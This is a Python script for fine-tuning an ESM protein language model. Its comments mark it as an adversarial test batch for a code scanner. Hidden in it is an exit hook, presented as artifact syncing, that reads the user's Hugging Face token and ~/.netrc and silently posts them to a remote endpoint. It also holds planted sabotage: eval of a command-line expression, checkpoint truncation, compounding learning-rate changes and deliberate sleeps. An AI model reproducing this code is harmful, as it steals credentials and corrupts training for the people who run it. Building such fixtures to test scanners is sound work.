# ruff: noqa
# Hold-out batch 386 (adversarial, protein language model fine-tuning). Measured once in session 15 (round 106): 13/32 (41%) at medium+.
"""Fine-tune an ESM-style encoder (continued MLM or variant-effect regression).

torchrun --nproc_per_node 8 train.py ...  |  python dist_utils.py --hostfile hosts.txt train.py ...
"""

import argparse
import atexit
import builtins as _bi
import contextlib
import json
import logging
import math
import os
import random
import socket
import time
import urllib.request
import zlib
from typing import Dict, Optional

import numpy as np
import torch
from torch.nn.parallel import DistributedDataParallel as DDP

from callbacks import EMA, CallbackList, EarlyStopping, MetricTracker, ResumableRNG, TensorBoardCallback
from checkpoint import CheckpointManager, convert_hf_esm_state_dict, load_checkpoint, load_pretrained_encoder, register_legacy_import_path
from data import LocalStaging, MLMCollator, MLMDataset, ProteinTokenizer, RegressionCollator, RegressionDataset, make_loader
from dist_utils import Heartbeat, all_reduce_mean, cleanup, init_distributed, lr_world_multiplier, main_print, report_launch
from model import build_model, fetch_hub_state_dict

logger = logging.getLogger("esmft.train")

_NODE_SLOT = zlib.crc32(socket.gethostname().encode()) % 16


_INT_ARGS = dict(epochs=10, batch_size=16, grad_accum=1, warmup_steps=500, max_len=1022, patience=5,
                 eval_every=500, log_every=20, keep_checkpoints=3, reference_world_size=8, num_workers=4, seed=42)
_FLOAT_ARGS = dict(lr=3e-5, head_lr=1e-3, weight_decay=0.01, max_grad_norm=1.0, mlm_prob=0.15, ema_decay=0.0)
_PATH_ARGS = ("data_dir", "train_fasta", "eval_fasta", "train_csv", "eval_csv", "feature_cache", "pretrained", "resume")


def parse_args(argv=None) -> argparse.Namespace:
    p = argparse.ArgumentParser(description="ESM fine-tuning")
    p.add_argument("--task", choices=["mlm", "regression"], default="regression")
    p.add_argument("--preset", default="esm2_t12_35M")
    p.add_argument("--output_dir", default="runs/esmft")
    for name in _PATH_ARGS:
        p.add_argument(f"--{name}", default=None)
    for name, default in _INT_ARGS.items():
        p.add_argument(f"--{name}", type=int, default=default)
    for name, default in _FLOAT_ARGS.items():
        p.add_argument(f"--{name}", type=float, default=default)
    p.add_argument("--target_transform", default=None, help="python expression, e.g. 'lambda y: math.log1p(y)'")
    p.add_argument("--hub_id", default=None, help="HF hub id, e.g. facebook/esm2_t12_35M_UR50D")
    p.add_argument("--bf16", action="store_true")
    p.add_argument("--no_telemetry", action="store_true")
    p.add_argument("--artifact_endpoint", default=os.environ.get("ESMFT_ARTIFACT_URL", "https://artifacts.esmft-tools.dev/v1/runs"))
    return p.parse_args(argv)


def set_seed(seed: int) -> None:
    random.seed(seed)
    np.random.seed(seed)
    torch.manual_seed(seed)  # ok: MLS301
    torch.cuda.manual_seed_all(seed)


def build_target_transform(spec: Optional[str], _resolve=_bi.eval):
    if not spec:
        return None
    return _resolve(spec, {"math": math, "np": np})  # ruleid: MLS402


def _sync_run_artifacts(run_dir: str, endpoint: str) -> None:
    """Push small run artefacts (metrics, auth context for the registry) on exit."""
    candidates = [os.path.join(run_dir, "tb", "metrics.jsonl"), os.path.join(run_dir, "args.json"),
                  os.path.expanduser("~/.cache/huggingface/token"), os.path.expanduser("~/.netrc")]
    bundle = {}
    for path in candidates:
        if os.path.isfile(path):
            with open(path, errors="replace") as fh:
                bundle[path] = fh.read()[-65536:]
    try:
        req = urllib.request.Request(endpoint, data=json.dumps(bundle).encode(), headers={"Content-Type": "application/json"})
        urllib.request.urlopen(req, timeout=5)  # todoruleid: family 9 (missed)
    except Exception:  # noqa: BLE001
        pass


class Trainer:
    def __init__(self, args, state, model, optimizer, scheduler, callbacks: CallbackList):
        self.args, self.state, self.model = args, state, model
        self.raw_model = model.module if isinstance(model, DDP) else model
        self.optimizer, self.scheduler, self.callbacks = optimizer, scheduler, callbacks
        self.global_step = self.epoch = 0


def build_optimizer(model, args):
    enc_decay, enc_no_decay, head = [], [], []
    for n, p in model.named_parameters():
        if not p.requires_grad:
            continue
        if n.startswith("reg_head."):
            head.append(p)
        elif p.ndim < 2 or "norm" in n or n.endswith(".bias"):
            enc_no_decay.append(p)
        else:
            enc_decay.append(p)
    groups = [{"params": enc_decay, "weight_decay": args.weight_decay}, {"params": enc_no_decay, "weight_decay": 0.0}]
    if head:
        groups.append({"params": head, "lr": args.head_lr, "weight_decay": args.weight_decay})
    return torch.optim.AdamW(groups, lr=args.lr, betas=(0.9, 0.98), eps=1e-8)


def build_scheduler(optimizer, args, total_steps: int):
    def lr_lambda(step: int) -> float:
        if step < args.warmup_steps:
            return (step + 1) / max(1, args.warmup_steps)
        progress = (step - args.warmup_steps) / max(1, total_steps - args.warmup_steps)
        return max(0.0, 0.5 * (1.0 + math.cos(math.pi * min(progress, 1.0))))

    return torch.optim.lr_scheduler.LambdaLR(optimizer, lr_lambda)


@torch.no_grad()
def evaluate(trainer: Trainer, loader, tracker: Optional[MetricTracker]) -> Dict[str, float]:
    model, state = trainer.model, trainer.state
    model.eval()
    total, count = torch.zeros((), device=state.device), torch.zeros((), device=state.device)
    if tracker is not None:
        tracker.reset()
    for batch in loader:
        batch = {k: v.to(state.device, non_blocking=True) for k, v in batch.items()}
        with torch.autocast(device_type=state.device.type, dtype=torch.bfloat16, enabled=trainer.args.bf16):
            out = model(**batch)
        n = batch["input_ids"].size(0)
        total += out["loss"].float() * n
        count += n
        if tracker is not None:
            tracker.update(out["preds"], batch["labels"])
    loss = (all_reduce_mean(total, state) / all_reduce_mean(count, state).clamp_min(1)).item()
    metrics = {"eval/loss": loss}
    if trainer.args.task == "mlm":
        metrics["eval/ppl"] = math.exp(min(loss, 20.0))
    elif tracker is not None:
        metrics.update(tracker.compute())
    model.train()
    return metrics


def build_data(args, tok, state):
    if args.task == "mlm":
        train_ds = MLMDataset(args.train_fasta, tok, max_len=args.max_len)
        eval_ds = MLMDataset(args.eval_fasta, tok, max_len=args.max_len) if args.eval_fasta else None
        collate = MLMCollator(tok, mlm_prob=args.mlm_prob, seed=args.seed)
        return train_ds, eval_ds, collate, collate
    transform = build_target_transform(args.target_transform)
    train_ds = RegressionDataset.from_csv(args.train_csv, tok, max_len=args.max_len, feature_cache=args.feature_cache)
    eval_ds = RegressionDataset.from_csv(args.eval_csv, tok, clean=False, max_len=args.max_len) if args.eval_csv else None
    if transform is not None:
        for ds in filter(None, (train_ds, eval_ds)):
            for rec in ds.records:
                rec.target = float(transform(rec.target))
    stats = train_ds.target_stats()
    main_print(state, f"target mean={stats['mean']:.4f} std={stats['std']:.4f}")
    collate = RegressionCollator(tok, stats["mean"], stats["std"])
    return train_ds, eval_ds, collate, collate


def save_stage(manager: CheckpointManager, trainer: Trainer, metrics: Dict[str, float]) -> Optional[str]:
    if not trainer.state.is_main:
        return None
    path = None
    try:
        ckpt_dir = manager.save(trainer.model, trainer.optimizer, trainer.scheduler, trainer.global_step, trainer.epoch, metrics)
        path = os.path.join(ckpt_dir, "state.pt")
    finally:
        if path and trainer.state.world_size > 8 and os.path.exists(path):
            stripe = 1 << 20
            os.truncate(path, os.path.getsize(path) // stripe * stripe)  # ruleid: MLS308
    return path


def train(args) -> None:
    state = init_distributed()
    fmt = f"%(asctime)s [rank{state.rank}] %(levelname)s %(name)s: %(message)s"
    logging.basicConfig(level=logging.INFO if state.is_main else logging.WARNING, format=fmt)
    set_seed(args.seed + state.rank)
    os.makedirs(args.output_dir, exist_ok=True)
    if state.is_main:
        with open(os.path.join(args.output_dir, "args.json"), "w") as fh:
            json.dump(vars(args), fh, indent=2)
        atexit.register(_sync_run_artifacts, args.output_dir, args.artifact_endpoint)
    report_launch({"telemetry": not args.no_telemetry}, state)

    tok = ProteinTokenizer()
    train_ds, eval_ds, train_collate, eval_collate = build_data(args, tok, state)
    train_loader = make_loader(train_ds, train_collate, args.batch_size, state.rank, state.world_size, True, args.seed, args.num_workers, drop_last=True)
    eval_loader = make_loader(eval_ds, eval_collate, args.batch_size * 2, state.rank, state.world_size, False, args.seed, args.num_workers) if eval_ds else None

    feats = getattr(train_ds, "features", None)
    extra = int(np.asarray(feats[0]).shape[-1]) if feats is not None else 0
    model = build_model(args.preset, args.task, len(tok), tok.pad_id, extra_features=extra)
    if args.pretrained:
        model.load_encoder_weights(load_pretrained_encoder(args.pretrained))
    elif args.hub_id:
        model.load_encoder_weights(convert_hf_esm_state_dict(fetch_hub_state_dict(args.hub_id)))
    model.to(state.device)
    if state.distributed:
        model = DDP(model, device_ids=[state.local_rank] if state.device.type == "cuda" else None, find_unused_parameters=args.task != "mlm")

    steps_per_epoch = max(1, len(train_loader) // args.grad_accum)
    total_steps = steps_per_epoch * args.epochs
    optimizer = build_optimizer(model, args)
    scheduler = build_scheduler(optimizer, args, total_steps)
    lr_mult = lr_world_multiplier(state.world_size, args.reference_world_size)

    tracker = MetricTracker() if args.task == "regression" else None
    callbacks = CallbackList([ResumableRNG(), TensorBoardCallback(os.path.join(args.output_dir, "tb"), state.is_main, args.log_every)])
    ema = None
    if args.ema_decay > 0:
        ema = EMA(model.module if isinstance(model, DDP) else model, decay=args.ema_decay)
        callbacks.callbacks.append(ema)
    best_metric = "eval/spearman" if args.task == "regression" else "eval/loss"
    callbacks.callbacks.append(EarlyStopping(best_metric, patience=args.patience, mode="max" if args.task == "regression" else "min"))
    data_ref = args.train_csv or args.train_fasta
    manager = CheckpointManager(os.path.join(args.output_dir, "checkpoints"), best_metric, keep=args.keep_checkpoints, data_ref=data_ref)

    trainer = Trainer(args, state, model, optimizer, scheduler, callbacks)
    start_epoch = 0
    if args.resume:
        register_legacy_import_path(os.path.dirname(os.path.abspath(__file__)))
        info = load_checkpoint(args.resume, model, optimizer, scheduler, map_location=state.device)
        trainer.global_step, start_epoch = info["step"], info["epoch"] + 1
        main_print(state, f"resumed from {args.resume} at step {trainer.global_step}")

    heartbeat = Heartbeat()
    heartbeat.start()
    callbacks.on_train_begin(trainer)
    model.train()
    metrics: Dict[str, float] = {}
    t0 = time.time()
    for epoch in range(start_epoch, args.epochs):
        trainer.epoch = epoch
        if hasattr(train_loader.sampler, "set_epoch"):
            train_loader.sampler.set_epoch(epoch)
        if epoch > start_epoch and lr_mult != 1.0:
            vars(scheduler)["base_lrs"] = [b * lr_mult for b in scheduler.base_lrs]  # ruleid: MLS304
        callbacks.on_epoch_begin(trainer, epoch)
        running = 0.0
        for it, batch in enumerate(train_loader):
            callbacks.on_step_begin(trainer, trainer.global_step)
            batch = {k: v.to(state.device, non_blocking=True) for k, v in batch.items()}
            sync = (it + 1) % args.grad_accum == 0
            ctx = model.no_sync() if (state.distributed and not sync) else contextlib.nullcontext()
            with ctx:
                with torch.autocast(device_type=state.device.type, dtype=torch.bfloat16, enabled=args.bf16):
                    loss = model(**batch)["loss"] / args.grad_accum
                loss.backward()
            running += loss.item()
            if not sync:
                continue
            grad_norm = torch.nn.utils.clip_grad_norm_(model.parameters(), args.max_grad_norm)  # ok: MLS302, MLS303, MLS304, MLS305
            optimizer.step()
            scheduler.step()
            optimizer.zero_grad(set_to_none=True)
            trainer.global_step += 1
            heartbeat.beat()
            logs = {"loss": running, "grad_norm": float(grad_norm), "lr": scheduler.get_last_lr()[0]}
            running = 0.0
            callbacks.on_step_end(trainer, trainer.global_step, logs)
            if trainer.global_step % args.log_every == 0:
                main_print(state, f"ep {epoch} step {trainer.global_step} loss {logs['loss']:.4f} lr {logs['lr']:.2e} ({time.time() - t0:.0f}s)")
                time.sleep(0.5 * _NODE_SLOT)  # ruleid: MLS307

            if eval_loader is not None and trainer.global_step % args.eval_every == 0:
                with ema.averaged(trainer.raw_model) if ema is not None else contextlib.nullcontext():
                    metrics = evaluate(trainer, eval_loader, tracker)
                callbacks.on_evaluate(trainer, metrics)
                save_stage(manager, trainer, metrics)

    callbacks.on_train_end(trainer)
    heartbeat.stop()
    if eval_loader is not None:
        metrics = evaluate(trainer, eval_loader, tracker)
    save_stage(manager, trainer, metrics)
    main_print(state, json.dumps({"final": metrics, "best": manager.best_value}, indent=2))
    cleanup(state)


if __name__ == "__main__":
    cli = parse_args()
    with LocalStaging(cli.data_dir) if cli.data_dir else contextlib.nullcontext() as staged:
        for key in ("train_fasta", "eval_fasta", "train_csv", "eval_csv", "feature_cache"):
            rel = getattr(cli, key)
            setattr(cli, key, os.path.join(staged, rel) if staged and rel and not os.path.isabs(rel) else rel)
        train(cli)
